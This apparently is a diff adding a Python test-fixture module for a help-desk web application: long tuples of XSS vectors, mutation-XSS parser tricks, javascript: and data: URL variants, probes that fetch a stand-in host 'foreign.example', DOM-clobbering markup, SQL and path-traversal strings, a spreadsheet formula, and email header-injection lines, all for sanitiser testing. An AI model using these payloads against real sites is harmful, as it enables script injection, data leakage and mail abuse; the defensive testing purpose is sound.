@@ -1,0 +1,315 @@
+"""Hostile words, markup, addresses and headers: what tests of the whole house feed into it.
+
+Each piece of markup carries a probe: `RUN` is a call that tells the test which vector ran, `ASK` an
+address of ours and `SPY` one of a stranger that nobody may be made to ask for. `armed` fills them
+in with the vector's number.
+"""
+
+from collections.abc import Sequence
+from typing import Final
+
+FOREIGN: Final = "foreign.example"
+
+
+def armed(pattern: str, number: int) -> str:
+    """Return a vector whose probes name its number."""
+    return (
+        pattern.replace("RUN", f"ran({number})")
+        .replace("ASK", f"/ran/{number}")
+        .replace("SPY", f"https://{FOREIGN}/{number}")
+        .replace("{n}", str(number))
+    )
+
+
+def marked(patterns: Sequence[str], mark: str) -> list[str]:
+    """Return armed vectors, each followed by the mark and its number, by which a page shows it."""
+    return [f"{armed(pattern, n)} {mark}{n}." for n, pattern in enumerate(patterns)]
+
+
+RUNNING: Final = (
+    # Scripts in plain sight and in disguise.
+    "<script>RUN</script>",
+    "<ScRiPt >RUN</sCrIpT\t>",
+    "<script/anything='>'>RUN</script>",
+    "<script type=module>RUN</script>",
+    "<script><!--\nRUN\n--></script>",
+    "<script\f>RUN</script\n>",
+    "<script src='data:text/javascript,RUN'></script>",
+    "<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>",
+    "<<script>RUN//<</script>",
+    "<script x='</script>'>RUN</script>",
+    # Events that need nobody's hand.
+    "<img src=x: onerror=RUN>",
+    "<img src=x: oNeRrOr=RUN>",
+    "<img/src='x:'/onerror=RUN>",
+    "<img\fsrc=x:\fonerror=RUN\f>",
+    "<img src=x: onerror\n=\n'RUN'>",
+    "<img src='x:' \"x\" onerror=RUN>",
+    "<img src=`x:` onerror=RUN>",
+    "<img src=x: alt='a > b' onerror='RUN'>",
+    "<img src=x: onerror=&#114;&#97;n&lpar;{n}&rpar;>",
+    "<image src=x: onerror=RUN>",
+    "<video src=x: onerror=RUN></video>",
+    "<video><source src=x: onerror=RUN></video>",
+    "<audio src=x: onerror=RUN></audio>",
+    "<input autofocus onfocus=RUN>",
+    "<details open ontoggle=RUN>x</details>",
+    "<iframe onload=RUN></iframe>",
+    "<iframe src='javascript:parent.RUN'></iframe>",
+    "<iframe src='java&#9;script:parent.RUN'></iframe>",
+    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
+    "<iframe srcdoc='&lt;img src=x: onerror=parent.RUN&gt;'></iframe>",
+    "<embed src='data:image/svg+xml,<svg/>' onload=RUN>",
+    "<style onload=RUN>a{}</style>",
+    "<link rel=stylesheet href='data:text/css,' onload=RUN>",
+    "<body onload=RUN>",
+    "<body onpageshow=RUN>",
+    "<style>@keyframes k{to{left:1px}}</style><p style='animation:k 1ms' onanimationend=RUN>x</p>",
+    # SVG and MathML, and what changes its meaning between the two and HTML.
+    "<svg onload=RUN></svg>",
+    "<svg/onload=RUN>",
+    "<svg><script>RUN</script></svg>",
+    "<svg><script>r&#97;n({n})</script></svg>",
+    "<svg><script href='data:text/javascript,RUN'/></svg>",
+    "<svg><image href=x: onerror=RUN /></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>",
+    "<svg><set onbegin=RUN attributeName=x to=1></set></svg>",
+    "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>",
+    "<svg><desc><img src=x: onerror=RUN></desc></svg>",
+    "<svg><title><img src=x: onerror=RUN></title></svg>",
+    "<svg></p><img src=x: onerror=RUN>",
+    "<svg><style><img src=x: onerror=RUN></style></svg>",
+    "<svg><![CDATA[><img src=x: onerror=RUN>]]></svg><img src=x: onerror=RUN>",
+    "<math><mtext><img src=x: onerror=RUN></mtext></math>",
+    "<math><annotation-xml encoding='text/html'><img src=x: onerror=RUN></annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<p>' src=x: onerror=RUN>",
+    "<svg><p><style><a title='</style><img src=x: onerror=RUN>'>",
+    "<math></br><style><!--</style><img src=x: onerror=RUN>",
+    # Ends and beginnings that two readers see in two places.
+    "<noscript><p title='</noscript><img src=x: onerror=RUN>'></noscript>",
+    "<textarea><p title='</textarea><img src=x: onerror=RUN>'></textarea>",
+    "<title><p title='</title><img src=x: onerror=RUN>'></title>",
+    "<style><p title='</style><img src=x: onerror=RUN>'></style>",
+    "<xmp><p title='</xmp><img src=x: onerror=RUN>'></xmp>",
+    "<noembed><p title='</noembed><img src=x: onerror=RUN>'></noembed>",
+    "<noframes><p title='</noframes><img src=x: onerror=RUN>'></noframes>",
+    "<iframe><p title='</iframe><img src=x: onerror=RUN>'></iframe>",
+    "<!--><img src=x: onerror=RUN>-->",
+    "<!---><img src=x: onerror=RUN>-->",
+    "<!-- --!><img src=x: onerror=RUN>-->",
+    "<!--x--\n>--><img src=x: onerror=RUN>",
+    "<!doctype x '><img src=x: onerror=RUN>",
+    "<?php echo '?><img src=x: onerror=RUN>' ?>",
+    "<![if !mso]><img src=x: onerror=RUN><![endif]>",
+    "</p title='><img src=x: onerror=RUN>'><img src=x: onerror=RUN>",
+    '<a title=\'"><img src=x: onerror=RUN>\' href="x"><img src=x: onerror=RUN></a>',
+    "<select><option><img src=x: onerror=RUN></select><img src=x: onerror=RUN>",
+    "<table><td><img src=x: onerror=RUN></table>",
+    "<table><tr><svg><desc><td><img src=x: onerror=RUN></table>",
+    "<b><p><b><p><a><table><a><img src=x: onerror=RUN></b></p>",
+    "<x-unknown><img src=x: onerror=RUN></x-unknown>",
+    "<p\0><im\0g src=x:><img src=x: onerror=RUN>",
+    "<meta http-equiv=refresh content='0;url=javascript:RUN'><img src=x: onerror=RUN>",
+)
+"""Markup that runs by itself in a browser that is given it as it is."""
+
+RESTING: Final = (
+    # What waits for a hand.
+    "<p onclick=RUN onmouseover=RUN onpointerenter=RUN>x</p>",
+    "<button onclick=RUN autofocus>x</button>",
+    "<form action='javascript:RUN'><button>x</button></form>",
+    "<form id=login action=SPY><input name=password><button formaction='javascript:RUN'>x</form>",
+    "<isindex action='javascript:RUN' type=submit>",
+    "<svg><a href='javascript:RUN'><text y=9>x</text></a></svg>",
+    "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=9>x</text></a></svg>",
+    "<math href='javascript:RUN'>x</math>",
+    "<area href='javascript:RUN'><map name=m><area href='javascript:RUN'></map>",
+    "<img usemap=#m src='/files/0/x.png'>",
+    "<a href=x ping=SPY target=_self>x</a>",
+    "<p contenteditable onblur=RUN>x</p>",
+    "<dialog open><form method=dialog><button>x</button></form></dialog>",
+    "<p popover id=toasts>x</p><button popovertarget=toasts>x</button>",
+    # What asks somebody else, or for something of ours in the reader's name.
+    "<img src=SPY>",
+    "<img src=//foreign.example/x>",
+    "<img srcset='SPY 1x'>",
+    "<picture><source srcset=SPY><img></picture>",
+    "<img src='ASK'>",
+    "<img src='/account/sign-out/'>",
+    "<img src='/files/../ran/{n}'>",
+    "<img src='/files/%2e%2e/ran/{n}'>",
+    "<img lowsrc=SPY dynsrc=SPY>",
+    "<body background=SPY>",
+    "<table background=SPY><tr><td background=SPY>x</table>",
+    "<link rel=stylesheet href=SPY><link rel=prefetch href=SPY><link rel=icon href=SPY>",
+    "<style>@import 'SPY'; body{background:url(SPY)}</style>",
+    "<p style='background:url(SPY)'>x</p>",
+    "<p style='b\\61 ckground:u\\72l(SPY)'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>x</p>",
+    "<video poster=SPY></video><audio src=SPY autoplay></audio><track src=SPY>",
+    "<iframe src=SPY></iframe><frameset><frame src=SPY></frameset>",
+    "<object data=SPY><param name=movie value=SPY></object><embed src=SPY><applet code=SPY>",
+    "<svg><use href='SPY#x'/><image href=SPY /><feImage href=SPY /></svg>",
+    "<input type=image src=SPY>",
+    "<base href='https://foreign.example/'>",
+    "<meta http-equiv=refresh content='0;url=SPY'>",
+    "<meta http-equiv=set-cookie content='otklik_session=x'>",
+    "<meta name=referrer content=unsafe-url>",
+    "<script src=SPY></script>",
+    # What our own scripts, or htmx, would obey.
+    "<p hx-get=ASK hx-trigger=load>x</p>",
+    "<p data-hx-get=ASK data-hx-trigger=load>x</p>",
+    "<button hx-post='/desk/t/1/close/' hx-trigger='load'>x</button>",
+    "<p hx-on:click=RUN hx-on::load=RUN hx-get=ASK hx-vals='js:{a:RUN}' hx-trigger='load[RUN]'>x",
+    "<p hx-ext=morph hx-boost=true><a href=ASK>x</a></p>",
+    "<p hx-swap-oob=true id=main>x</p>",
+    "<ok-live data-tokens='desk=x' data-url='wss://foreign.example/'></ok-live>",
+    "<ok-editor data-src='data:text/javascript,RUN'><textarea>x</textarea></ok-editor>",
+    "<ok-draft data-url=ASK><form><textarea>x</textarea></form></ok-draft>",
+    "<ok-upload data-url=SPY><input type=file><ul data-list></ul></ok-upload>",
+    "<ok-canned data-url=ASK><div data-options></div></ok-canned>",
+    "<ok-toast data-seconds=1><button data-undo=ASK>x</button></ok-toast>",
+    "<p data-write=note data-do=send data-quote data-undo=ASK data-key=R data-format=bold>x</p>",
+    "<tr data-id=1><td><input class=check name=chosen value=1></td></tr>",
+    "<template><img src=x: onerror=RUN></template>",
+    "<template shadowrootmode=open><script>RUN</script></template>",
+    "<p>{{ RUN }} {% RUN %} ${RUN} <% RUN %> [[RUN]]</p>",
+    # Names that stand before the page's own.
+    "<img name=body><img name=head><img name=cookie><img name=forms><img name=scripts>",
+    "<form name=querySelector><input name=action><input name=submit><input name=method></form>",
+    "<a id=main href=x>x</a><a id=toasts></a><a id=composer></a><a id=csrf name=csrf></a>",
+    "<img id=htmx><a id=Idiomorph></a><a id=Idiomorph name=morph href='javascript:RUN'></a>",
+    "<input name=csrfmiddlewaretoken value=x><input name=html value=x><input name=key value=x>",
+    "<p id=__proto__ name=constructor class='toast modal' role=alertdialog tabindex=1>x</p>",
+    "<p slot=x is=ok-toast part=x exportparts=x>x</p>",
+    # What other browsers run, or this one did once.
+    "<object data=x: onerror=RUN></object>",
+    "<math><mi><table><mi><style><img src=x: onerror=RUN></style></mi></table></mi></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
+    # Ends of what stands around it.
+    "</div></div></main></body></html><h1>x</h1>",
+    "</td></tr></table></article></section>x",
+    "</textarea></template></script></style></title></iframe>x",
+    "<plaintext>x",
+    "<!--",
+    "<![CDATA[",
+    "<a href='",
+    "<img src=x: onerror='RUN",
+)
+"""Markup that runs only with somebody's help, or does harm without running."""
+
+ADDRESSES: Final = (
+    "javascript:RUN",
+    "JaVaScRiPt:RUN",
+    " javascript:RUN",
+    "\x01javascript:RUN",
+    "\u00a0javascript:RUN",
+    "java\tscript:RUN",
+    "java\nscript:RUN",
+    "java\rscript:RUN",
+    "java\0script:RUN",
+    "javascript\t:RUN",
+    "&#106;avascript:RUN",
+    "&#x6A&#x61vascript:RUN",
+    "&#0000106avascript:RUN",
+    "java&Tab;script:RUN",
+    "java&NewLine;script&colon;RUN",
+    "&#1;javascript:RUN",
+    "javascript&#58;RUN",
+    "javascript://foreign.example/%0aRUN",
+    "javascript:/*https://*/RUN",
+    "view-source:javascript:RUN",
+    "vbscript:RUN",
+    "livescript:RUN",
+    "data:text/html,<script>RUN</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=RUN>",
+    "DATA:;charset=utf-7,x",
+    "blob:https://foreign.example/x",
+    "filesystem:https://foreign.example/x",
+    "file:///etc/passwd",
+    "about:blank#RUN",
+    "ms-word:ofe|u|SPY",
+    "intent:#Intent;end",
+    "jar:SPY!/x",
+    "feed:javascript:RUN",
+    "x-unknown:RUN",
+    "http:javascript:RUN",
+    "//foreign.example/x",
+    "\\\\foreign.example\\x",
+    "/\\foreign.example/x",
+    "https:foreign.example",
+    "https://help@foreign.example/",
+    "http://[::1",
+    "?next=javascript:RUN",
+    "#javascript:RUN",
+)
+"""What stands where a link leads to."""
+
+NAMES: Final = (
+    "<script>RUN</script>",
+    "<img src=x: onerror=RUN>",
+    '"><img src=x: onerror=RUN>',
+    "'><img src=x: onerror=RUN>",
+    '" autofocus onfocus=RUN x="',
+    "' onmouseover=RUN x='",
+    "` onfocus=RUN autofocus",
+    "</title><script>RUN</script>",
+    "</textarea><script>RUN</script>",
+    "</script><script>RUN</script>",
+    "</option></select><img src=x: onerror=RUN>",
+    "</template><img src=x: onerror=RUN>",
+    "--><img src=x: onerror=RUN>",
+    "]]><img src=x: onerror=RUN>",
+    "&lt;img src=x: onerror=RUN&gt;",
+    "&#60;img src=x: onerror=RUN&#62;",
+    "\\u003cimg src=x: onerror=RUN\\u003e",
+    "\uff1cimg src=x: onerror=RUN\uff1e",
+    "{{ RUN }}{% include 'x' %}${RUN}",
+    "%(name)s %s %d {name} {0} {0.__class__}",
+    "javascript:RUN",
+    "=HYPERLINK(SPY)",
+    "\u202eexe.gpj\u202c",
+    "\u200b\u200f\u2066x\u2069\ufeff",
+    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U000e0061",
+    "' OR 1=1; DROP TABLE tickets_ticket; --",
+    "../../../etc/passwd",
+    "=?utf-8?q?=3Cscript=3ERUN=3C/script=3E?=",
+    "Anna <anna@example.org>, x",
+    "admin@example.org\u2028Bcc: x",
+)
+"""What stands where a name, a title or a word belongs."""
+
+HEADERS: Final = (
+    (
+        b"From: =?utf-8?b?PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=?= <elena@example.org>",
+        b"Subject: =?utf-8?q?=3Cscript=3Eran=280=29=3C/script=3E?=",
+        b'Message-ID: <"><script>ran(0)</script>@x>',
+        b"Date: <script>ran(0)</script>",
+    ),
+    (
+        b'From: "<img src=x: onerror=ran(0)>" <elena@example.org>',
+        b"Subject: =?utf-8?q?a=0D=0ABcc=3A_all=40foreign=2Eexample?=",
+        b"To: " + b"x" * 5000,
+        b"Content-Transfer-Encoding: <script>",
+    ),
+    (
+        b"From: =?utf-8?q?a=0D=0ABcc=3A_all=40foreign=2Eexample?= <elena@example.org>",
+        b"Subject: =?utf-16?b?PABzAGMAcgBpAHAAdAA+AA==?= =?x-none?q?=00?= =?utf-8?z?x?=",
+        b"References: " + b"<a@b> " * 5000,
+        b'Content-Type: multipart/mixed; boundary=""',
+    ),
+    (
+        b"From: a\rBcc: all@foreign.example <elena@example.org>",
+        b"Subject: \xff\xfe\x00<script>ran(0)</script>",
+        b"X" * 20_000 + b": x",
+        b'Content-Type: text/html; charset="\'><script>ran(0)</script>"',
+    ),
+    (
+        b"Subject: x\r\n\tBcc: all@foreign.example",
+        b"To: " + b", ".join(b"a%d@foreign.example" % number for number in range(2000)),
+        b"Reply-To: elena@example.org\r\n ,all@foreign.example",
+    ),
+)
+"""Header lines of letters, those of one letter together."""
